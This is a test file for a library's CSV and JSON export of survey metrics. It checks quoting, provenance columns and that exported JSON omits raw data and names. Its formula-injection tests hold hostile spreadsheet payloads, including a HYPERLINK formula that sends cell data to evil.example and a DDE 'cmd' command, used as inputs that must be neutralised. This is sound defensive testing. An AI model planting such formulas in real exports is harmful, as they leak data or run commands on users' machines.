import {expect} from '@open-wc/testing';
import {csvParseRows} from 'd3-dsv';
import {csvOf, jsonOf, type About} from '#internal/element/export/data.js';
import {version} from '#internal/element/version.js';
import {nps} from 'keepwell/metrics';
import {estimate, insufficient, type Outcome, type Provenance} from 'keepwell/metrics/kernel';

const made: Provenance = {
  metric: 'nps',
  options: {rollUp: 'respondent', components: [{id: 'use', weight: 2}], aliases: {'ann@home.example': 'ann'}},
  scope: {
    asOf: Date.UTC(2026, 10, 18, 8),
    timeZone: 'Europe/Berlin',
    weekStart: 'monday',
    level: 0.9,
    minimumGroup: 11,
  },
  quality: {
    responses: {
      read: 12,
      kept: 10,
      columns: {
        score: {dropped: 2, emptied: 0, expected: 'a number', example: {row: 3, got: 'ann@work.example'}},
        at: {dropped: 0, emptied: 4, expected: 'a time', example: {row: 5, got: 'ben@work.example'}},
      },
      malformed: {count: 1, expected: '2 cells', example: {row: 7, got: 'cid@work.example'}},
      ignored: ['name'],
    },
    accounts: {read: 5, kept: 5, columns: {}, malformed: null, ignored: []},
  },
};

const interval = {lower: 20, upper: 40, level: 0.9, method: 'score'};

function aboutOf(outcome: Outcome): About {
  return {title: 'NPS, "all"', takeaway: '+30', metric: nps, outcome: {...outcome, made}};
}

const about = aboutOf(estimate(30, {terms: {responses: 10}, n: 10, interval, completeness: 'incomplete'}));

/** Reads a file as spreadsheets do, past its byte order mark. */
function cellsOf(csv: string): string[][] {
  return csvParseRows(csv.replace(/^\uFEFF/, ''));
}

function cellIn(text: string): string | undefined {
  return cellsOf(csvOf({columns: ['a', 'b'], rows: [[text, 'last']]}, about))[1]?.[0];
}

describe('numbers as CSV', () => {
  it('are the table, and in every row how they were made', () => {
    const csv = csvOf(
      {
        columns: ['Answer', 'Number'],
        rows: [
          ['9', '1'],
          ['10', '2'],
        ],
      },
      about,
    );
    const [head = [], ...rows] = cellsOf(csv);
    expect(csv.startsWith('\uFEFFAnswer,Number,')).to.equal(true);
    expect(head.slice(0, 2)).to.deep.equal(['Answer', 'Number']);
    expect(rows.map((cells) => cells.slice(0, 2))).to.deep.equal([
      ['9', '1'],
      ['10', '2'],
    ]);
    for (const cells of rows) {
      expect(Object.fromEntries(head.slice(2).map((name, i) => [name, cells[i + 2]]))).to.deep.equal({
        title: 'NPS, "all"',
        takeaway: '+30',
        metric: 'nps',
        'as of': '2026-11-18T08:00:00.000Z',
        'time zone': 'Europe/Berlin',
        'week start': 'monday',
        level: '0.9',
        'interval method': 'score',
        'minimum group': '11',
        completeness: 'incomplete',
        options: '{"rollUp":"respondent","components":[{"id":"use","weight":2}]}',
        'rows read': '17',
        'rows left out': '2',
        'cells not readable': '4',
        'defined by': nps.source,
        'made with': `keepwell ${version}`,
      });
    }
  });

  it('have as many cells in every row, ended by CRLF', () => {
    const csv = csvOf({columns: ['a', 'b', 'c'], rows: [['1'], ['1', '2', '3', '4'], []]}, about);
    expect(new Set(cellsOf(csv).map(({length}) => length)).size).to.equal(1);
    expect(cellsOf(csv)).to.have.length(4);
    expect(csv.endsWith('\r\n')).to.equal(true);
    expect(csv.replaceAll('\r\n', '')).not.to.match(/[\r\n]/);
  });

  it('say how there came to be none', () => {
    const none = aboutOf(insufficient('no-responses', 'No responses'));
    const [head = [], row = []] = cellsOf(csvOf({columns: [], rows: [[]]}, {...none, takeaway: 'No responses'}));
    expect(row[head.indexOf('takeaway')]).to.equal('No responses');
    expect(row[head.indexOf('completeness')]).to.equal('');
    expect(row[head.indexOf('interval method')]).to.equal(nps.interval);
  });

  it('keep what is in a cell in it', () => {
    for (const text of ['a,b', 'a"b', '"', 'a\nb', 'a\r\nb', 'ok,=1+1', 'a";=1+1', "it's", ' a ', '']) {
      expect(cellIn(text)).to.equal(text);
    }
  });

  // prettier-ignore
  const formulas = [
    '=1+1', '=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|'/c calc'!A1", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1',
    '\r=1+1', '\n=1+1', '\tx', '\rx', '\nx', '＝1+1', '＋1', '－1', '＠SUM(1)', '"=1+1', ' =1+1', '\u00a0=1', '" "-1+1', '-', '+a', '-1-1',
    '+29 to +37', '-1%+2',
  ];
  for (const text of formulas) {
    it(`take ${JSON.stringify(text)} for text`, () => {
      expect(cellIn(text)).to.equal(`'${text}`);
    });
  }

  for (const text of ['-5', '+33', '-1.5', '-1,412', '+1,234,567.8', '-12%', '-12 %', '-1e-7', '12', '84%']) {
    it(`leave the number ${text} as it is`, () => {
      expect(cellIn(text)).to.equal(text);
    });
  }

  it('write a minus as spreadsheets know it, but not in text', () => {
    expect(cellIn('−5%')).to.equal('-5%');
    expect(cellIn('−2 to +7')).to.equal('−2 to +7');
  });

  it('are safe in headings and in what is said about them, too', () => {
    const [head = [], row = []] = cellsOf(csvOf({columns: ['=A1'], rows: [['x']]}, {...about, title: '@SUM(1)'}));
    expect(head[0]).to.equal("'=A1");
    expect(row[head.indexOf('title')]).to.equal("'@SUM(1)");
  });
});

describe('an outcome as JSON', () => {
  it('is whole, with how it was made and what it means', () => {
    const file = JSON.parse(jsonOf(about)) as Record<string, unknown>;
    expect(file).to.include({schema: 'keepwell/outcome/1', keepwell: version, title: 'NPS, "all"', takeaway: '+30'});
    expect(file['metric']).to.deep.include({
      id: 'nps',
      formula: nps.formula,
      interval: nps.interval,
      source: nps.source,
    });
    expect(file['outcome']).to.deep.include({kind: 'estimate', value: 30, n: 10, interval, completeness: 'incomplete'});
    expect((file['outcome'] as {made: Provenance}).made).to.deep.include({metric: 'nps', scope: made.scope});
  });

  it('has no cell of the data, and no names in options', () => {
    const text = jsonOf(about);
    expect(text).not.to.contain('@work.example').and.not.to.contain('ann');
    const {quality, options} = (JSON.parse(text) as {outcome: {made: Provenance}}).outcome.made;
    expect(quality['responses']).to.deep.equal({
      read: 12,
      kept: 10,
      ignored: ['name'],
      columns: {
        score: {dropped: 2, emptied: 0, expected: 'a number'},
        at: {dropped: 0, emptied: 4, expected: 'a time'},
      },
      malformed: {count: 1, expected: '2 cells'},
    });
    expect(quality['accounts']).to.include({malformed: null});
    expect(options).to.deep.equal({rollUp: 'respondent', components: [{id: 'use', weight: 2}]});
  });

  it('has the numbers of typed arrays as a list', () => {
    const curve = {kind: 'curve', time: Float64Array.of(1, 2.5), day: Int32Array.of(3), group: {example: 'kept'}};
    const {outcome} = JSON.parse(jsonOf(aboutOf(curve))) as {outcome: object};
    expect(outcome).to.deep.include({time: [1, 2.5], day: [3], group: {example: 'kept'}});
  });
});
